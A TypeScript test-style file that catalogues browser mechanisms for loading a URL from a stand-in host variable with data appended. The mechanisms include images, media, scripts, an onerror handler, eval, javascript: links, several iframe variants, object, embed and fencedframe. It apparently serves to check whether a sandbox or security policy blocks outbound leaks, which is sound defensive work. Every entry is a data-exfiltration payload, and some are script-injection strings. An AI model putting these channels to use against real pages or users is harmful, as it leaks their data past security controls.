import { element, markup, page, type Channel } from './channel.ts';

/** Elements that load something by an attribute. */
export const elementChannels: readonly Channel[] = [
  page('img', `new Image().src=U.h+'/img.png?'+U.d`),
  page('img srcset', markup('`<img srcset="${U.h}/srcset.png?${U.d} 1x">`')),
  page('picture source', markup('`<picture><source srcset="${U.h}/pic.png?${U.d}"><img></picture>`')),
  page('input type=image', markup('`<input type=image src="${U.h}/inp.png?${U.d}">`')),
  page('body background', `document.body.setAttribute('background',U.h+'/bg.png?'+U.d)`),
  page('video', markup('`<video src="${U.h}/v.mp4?${U.d}" preload=auto></video>`')),
  page('video poster', markup('`<video poster="${U.h}/p.png?${U.d}"></video>`')),
  page('audio', `new Audio(U.h+'/a.mp3?'+U.d).load()`),
  page(
    'track',
    markup('`<video crossorigin><track default kind=subtitles src="${U.h}/t.vtt?${U.d}"></video>`') + `e.firstChild.textTracks[0].mode='showing'`,
  ),
  page('script', element('script', `src:U.h+'/script.js?'+U.d`)),
  page('script module', element('script', `type:'module',src:U.h+'/script-m.js?'+U.d`)),
  page('inline script', element('script', `textContent:'fetch("'+U.h+'/inline?'+U.d+'",{mode:"no-cors"})'`)),
  page('event handler attribute', markup("`<img src=x onerror=\"fetch('${U.h}/onerror?${U.d}',{mode:'no-cors'})\">`")),
  page('eval', `eval('fetch(U.h+"/eval?"+U.d,{mode:"no-cors"})')`),
  page(
    'javascript: link',
    `const a=document.createElement('a');a.href='javascript:fetch("'+U.h+'/js?'+U.d+'",{mode:"no-cors"})';document.body.append(a);a.click()`,
    { gesture: true },
  ),
  page('iframe', element('iframe', `src:U.h+'/frame.html?'+U.d`)),
  page('iframe srcdoc img', element('iframe', 'srcdoc:`<img src="${U.h}/srcdoc.png?${U.d}">`')),
  page('iframe srcdoc meta refresh', element('iframe', 'srcdoc:`<meta http-equiv=refresh content="0;url=${U.h}/frame-refresh.html?${U.d}">`')),
  page('iframe data:', element('iframe', 'src:`data:text/html,<img src="${U.h}/dataframe.png?${U.d}">`')),
  page(
    'iframe blob:',
    'const b=URL.createObjectURL(new Blob([`<img src="${U.h}/blobframe.png?${U.d}">`],{type:\'text/html\'}));' + element('iframe', 'src:b'),
  ),
  page(
    'iframe realm fetch',
    `const f=document.createElement('iframe');document.body.append(f);await f.contentWindow.fetch(U.h+'/realm?'+U.d,{mode:'no-cors'})`,
  ),
  page(
    'iframe realm location',
    `const f=document.createElement('iframe');document.body.append(f);f.contentWindow.location=U.h+'/frame-loc.html?'+U.d`,
  ),
  page('object', markup('`<object data="${U.h}/object.svg?${U.d}"></object>`')),
  page('embed', markup('`<embed src="${U.h}/embed.svg?${U.d}">`')),
  page('fencedframe', `const f=document.createElement('fencedframe');f.config=new FencedFrameConfig(U.hs+'/ff.html?'+U.d);document.body.append(f)`),
];
